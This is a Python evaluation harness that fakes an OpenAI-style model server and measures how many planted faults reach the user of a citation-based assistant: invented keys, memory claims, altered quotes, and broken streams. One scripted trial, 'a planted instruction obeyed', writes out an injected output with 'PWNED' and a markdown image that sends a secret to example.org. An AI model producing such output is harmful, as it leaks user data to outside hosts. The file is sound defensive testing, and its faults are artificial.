"""How many faults of a language model reach the user: ``python -m evals faults``.

A server on loopback speaks the OpenAI protocol and plays a model that errs, or that breaks. A fault
of what it writes is planted once a question: a sentence which a passage bears but for one thing, or
a claim from elsewhere under the key of a passage. Asked to repair it, the model says it again. A
fault has reached the user if a sentence that is not a quote of its citation was shown and is not
one that the server was told to be right.
"""

from __future__ import annotations

import itertools
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Any

from assistant import Answer, Assistant, Said, Settings
from evals.checker import MECHANICAL, SUPPORTED, load_pairs
from evals.openai_server import (
    DONE,
    OpenAIServer,
    Request,
    Response,
    Script,
    endless,
    event,
    words,
)

QUESTIONS = (
    "May I load a .bin checkpoint I found on a model hub?",
    "How do I stop prompt injection in my RAG chatbot?",
    "Do we have to tell users that they talk to a bot under the EU AI Act?",
    "What does LLM05 say?",
    "How do I monitor drift after release?",
    "What does Art. 26(5) require?",
    "How do I pin a model revision so that it cannot change under me?",
    "What do I write into a model card?",
    "Someone poisoned our fine-tuning data, what now?",
    "How do I limit what a single user can spend on tokens?",
)
MEMORIES = (
    "GPT-4 was trained on about thirteen trillion tokens.",
    "The transformer was introduced in 2017 by researchers at Google.",
    "Most companies that were fined had no incident plan.",
    "Safetensors files load about twice as fast as pickled ones.",
    "Attackers usually succeed within the first hundred requests.",
    "Regulators have said that they will not enforce this before next year.",
    "Small models are immune to this attack.",
    "Your insurer covers the damage in such a case.",
    "The maintainers have promised a patch for the next release.",
    "A written statement of the vendor is enough in practice.",
)
TIMEOUT_S = 2.0
"""The time-out of the model in these trials; an answer takes at most twice as long."""


@dataclass(frozen=True, slots=True)
class Trial:
    """A question and what the server does.

    kind: of fault. exact: whether an exact value, a key or the transport is wrong, so that nothing
    may reach the user; else the fault is a claim in other words.
    """

    kind: str
    exact: bool
    question: str
    script: Script


@dataclass(frozen=True, slots=True)
class Outcome:
    """What a user got, after how many seconds.

    reached: the shown sentences that are no quotes. whole: it was an answer, all of it streamed.
    """

    trial: Trial
    reached: tuple[str, ...]
    whole: bool
    answer: Answer
    seconds: float


def carried_out(trials: Iterator[Trial], settings: Settings) -> Iterator[Outcome]:
    """Ask, each time with the script of a trial, and see what is shown."""
    with OpenAIServer(lambda request: Response(500)) as server:
        told = replace(
            settings,
            model="openai:scripted",
            model_base_url=server.url,
            model_timeout_s=TIMEOUT_S,
        )
        with Assistant.open(told) as assistant:
            assistant.ask(QUESTIONS[0])  # loads the provider's package, which takes seconds
            for trial in trials:
                server.script = trial.script
                yield _outcome(trial, assistant)


def _outcome(trial: Trial, assistant: Assistant) -> Outcome:
    begun = time.monotonic()
    *pieces, answer = assistant.stream(trial.question)
    seconds = time.monotonic() - begun
    assert isinstance(answer, Answer)
    said = tuple(piece.statement for piece in pieces if isinstance(piece, Said))
    quotes = {citation.number: citation.quote for citation in answer.citations}
    reached = tuple(
        entry.text
        for entry in said
        if entry.text not in {quotes[number] for number in entry.citations}
    )
    whole = answer.outcome == "answered" and said == answer.statements
    return Outcome(trial, reached, whole, answer, seconds)


# What a model writes


def _stubborn(write: Callable[[Request], str]) -> Script:
    """A model that answers with the fault, and with it again when it is asked to repair it."""
    return lambda request: words(write(request))


def written() -> Iterator[Trial]:
    """Faults of what a model writes."""
    for question in QUESTIONS:
        yield Trial("invented key", True, question, _stubborn(_invented))
        yield Trial(
            "no key", True, question, _stubborn(lambda request: request.passages[0]["text"])
        )
        for memory in MEMORIES:
            yield Trial("from memory, real key", False, question, _stubborn(_claim(memory)))
        for kind, alter in MECHANICAL.items():
            yield Trial(kind, True, question, _stubborn(_altered(alter)))
        yield Trial("key of another passage", False, question, _stubborn(_moved))
    for pair in load_pairs("held-out"):
        if pair.fault != SUPPORTED:
            kind = f"labelled pair: {pair.fault}"
            exact = pair.fault not in ("added", "memory", "scope", "opposite", "actor", "swap")
            question = f"What does {pair.provision} say?"
            yield Trial(kind, exact, question, _stubborn(_paired(pair.sentence, pair.quotes)))


def _invented(request: Request) -> str:
    return f"{request.passages[0]['text']} [S{len(request.passages) + 7}]"


def _claim(claim: str) -> Callable[[Request], str]:
    return lambda request: f"{claim} [S1]"


def _moved(request: Request) -> str:
    first, *_, last = request.passages
    return f"{first['text']} [{last['key']}]"


def _altered(alter: Callable[[str], str]) -> Callable[[Request], str]:
    """All passages in which there was something to alter; "" if there was in none."""

    def write(request: Request) -> str:
        rows = [(alter(entry["text"]), entry) for entry in request.passages]
        return "\n".join(f"{text} [{e['key']}]" for text, e in rows if text != e["text"])

    return write


def _paired(sentence: str, quotes: tuple[str, ...]) -> Callable[[Request], str]:
    def write(request: Request) -> str:
        keys = [entry["key"] for entry in request.passages if entry["text"] in quotes]
        return f"{sentence} {''.join(f'[{key}]' for key in keys)}" if keys else ""

    return write


# What breaks

_REFUSED = b'{"error": {"message": "Incorrect API key provided: sk-secret", "type": "x"}}'
_HALF = b'data: {"choices": [{"index": 0, "delta": {"content": "Caf\xc3"}}]}\n\n'


def _begun(request: Request) -> list[bytes]:
    """A first sentence that its passage bears, and half of one that it does not."""
    first = request.passages[0]
    return [event(f"{first['text']} [{first['key']}]\n"), event("Half of a claim that")]


BREAKS: dict[str, Script] = {
    "status 401": lambda request: Response(401, pieces=[_REFUSED]),
    "status 429, wait 1 hour": lambda request: Response(429, {"Retry-After": "3600"}),
    "status 429, wait 0 s": lambda request: Response(429, {"Retry-After": "0"}),
    "status 500": lambda request: Response(500),
    "nothing at all": lambda request: Response(pieces=[DONE]),
    "half a UTF-8 character": lambda request: Response(pieces=[*_begun(request), _HALF, DONE]),
    "half of a surrogate pair": lambda request: Response(
        pieces=[*_begun(request), event(" ends \ud83d [S1]\n"), DONE]
    ),
    "malformed stream": lambda request: Response(pieces=[*_begun(request), b"data: {not\n\n"]),
    "dropped connection": lambda request: Response(pieces=_begun(request), end="drop"),
    "dropped before a word": lambda request: Response(end="drop"),
    "hang": lambda request: Response(pieces=_begun(request), end="hang"),
    "endless line": lambda request: Response(pieces=endless("and so on ")),
    "endless sentences": lambda request: Response(
        pieces=itertools.chain(_begun(request), endless(" is so. [S1]\nThis"))
    ),
    "a planted instruction obeyed": lambda request: words(
        "I have been told to ignore the sources. [S1]\nPWNED [S1]\n"
        "![x](https://example.org/leak?q=secret) [S1]"
    ),
}


def broken(times: int = 3) -> Iterator[Trial]:
    """Faults of the transport, a few questions each."""
    for kind, script in BREAKS.items():
        for question in QUESTIONS[:times]:
            yield Trial(kind, True, question, script)


def table(outcomes: Iterator[Outcome]) -> dict[str, dict[str, Any]]:
    """Kind -> planted, reached, whether nothing may reach, and what the user got.

    Counts sentences where sentences were planted, requests where the transport broke. asked, whole:
    how many questions, and how many of them had a whole answer. slowest_s: the longest that one took,
    in seconds. told: how the note of most answers begins.
    """
    found: dict[str, list[Outcome]] = {}
    for outcome in outcomes:
        found.setdefault(outcome.trial.kind, []).append(outcome)
    return {kind: _row(kind, same) for kind, same in found.items()}


def _row(kind: str, found: list[Outcome]) -> dict[str, Any]:
    reached = sum(len(outcome.reached) for outcome in found)
    withheld = sum(outcome.answer.withheld for outcome in found)
    notes = Counter(outcome.answer.note.partition(". ")[0] for outcome in found)
    return {
        "exact": found[0].trial.exact,
        "planted": len(found) if kind in BREAKS else withheld + reached,
        "reached": reached,
        "asked": len(found),
        "whole": sum(outcome.whole for outcome in found),
        "slowest_s": round(max(outcome.seconds for outcome in found), 2),
        "told": notes.most_common(1)[0][0],
    }


def markdown(rows: dict[str, dict[str, Any]]) -> str:
    """The table, with its sums."""
    exact = [row for row in rows.values() if row["exact"]]
    claims = [row for row in rows.values() if not row["exact"]]
    asked, whole = (sum(row[name] for row in rows.values()) for name in ("asked", "whole"))

    def sums(chosen: list[dict[str, Any]]) -> str:
        reached, planted = (sum(row[name] for row in chosen) for name in ("reached", "planted"))
        return f"{reached} of {planted:,} ({reached / planted:.1%})"

    lines = [
        f"Faults of exact values, keys and transport that reached the user: {sums(exact)}. "
        f"Claims in other words: {sums(claims)}. {whole} of {asked} questions had a whole answer, "
        f"from the sources where the model gave none, the slowest after "
        f"{max(row['slowest_s'] for row in rows.values()):.1f} s with {TIMEOUT_S:g} s for the model.",
        "",
        "| planted | times | reached the user | what most answers say of it | slowest, s |",
        "|---|---:|---:|---|---:|",
        *(
            f"| {kind} | {row['planted']} | {row['reached']} | {row['told']} | {row['slowest_s']:.1f} |"
            for kind, row in rows.items()
        ),
    ]
    return "\n".join(lines)
